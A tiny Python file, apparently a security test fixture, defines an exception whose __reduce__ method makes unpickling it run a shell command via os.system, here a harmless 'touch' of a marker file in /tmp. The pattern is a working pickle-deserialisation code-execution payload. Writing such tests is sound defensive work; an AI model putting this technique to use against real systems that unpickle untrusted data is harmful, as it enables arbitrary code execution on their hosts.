"""Raises an exception that runs a command when it is unpickled.

Runs.
"""

import os


class Payload(Exception):
    def __reduce__(self):
        return os.system, ("touch /tmp/llmerm-attack-pickle",)


def f(x):
    raise Payload("x")
